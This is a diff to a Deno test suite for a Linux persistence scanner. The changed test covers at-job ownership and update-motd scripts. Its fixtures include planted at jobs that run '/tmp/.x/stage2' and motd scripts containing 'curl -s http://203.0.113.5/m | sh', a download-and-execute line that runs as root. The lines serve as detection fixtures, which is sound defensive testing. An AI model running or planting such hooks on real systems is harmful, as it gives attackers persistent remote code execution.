@@ -177,22 +177,22 @@ Deno.test("persistence: LD_PRELOAD in start-up files and ld.so.preload entries a
   ]);
 });
 
-Deno.test("persistence: at jobs run as their owner; update-motd scripts as root when run-parts would run them", async () => {
+Deno.test("persistence: at jobs run as their atrun uid (only executable ones); update-motd scripts as root when run-parts would run them", async () => {
   const atJob =
     "#!/bin/sh\n# atrun uid=1001 gid=1001\numask 22\ncd /home/bob || {\n  exit 1\n}\n/tmp/.x/stage2\n";
   using root = makeTree(base({
-    "var/spool/cron/atjobs/a0000101a2b3c4": atJob,
+    "var/spool/cron/atjobs/a0000101a2b3c4": { content: atJob, mode: 0o700 },
+    "var/spool/cron/atjobs/a0000201a2b3c5": { content: atJob.replace("stage2", "stage3"), mode: 0o600 },
     "etc/update-motd.d/10-uname": { content: "#!/bin/sh\nuname -snrvm\n", mode: 0o755 },
     "etc/update-motd.d/99-x": { content: "#!/bin/sh\ncurl -s http://203.0.113.5/m | sh\n", mode: 0o755 },
     "etc/update-motd.d/98-off": { content: "#!/bin/sh\ncurl -s http://203.0.113.5/m | sh\n", mode: 0o644 },
   }));
-  if (isRoot) Deno.chownSync(`${root.path}/var/spool/cron/atjobs/a0000101a2b3c4`, 1001, 1001);
   const r = await runOne(persistence, root.path);
   assert.deepEqual(r.findings.map((f) => [f.check_id, f.metadata.path]), [
     ["persistence.command.untrusted_path", "/var/spool/cron/atjobs/a0000101a2b3c4"],
     ["persistence.command.download_exec", "/etc/update-motd.d/99-x"],
   ]);
-  if (isRoot) assert.deepEqual(r.findings.map((f) => f.metadata.run_as), ["bob", "root"]);
+  assert.deepEqual(r.findings.map((f) => f.metadata.run_as), ["bob", "root"], "atrun's uid= header decides");
 });
 
 Deno.test(needs(["root"], {
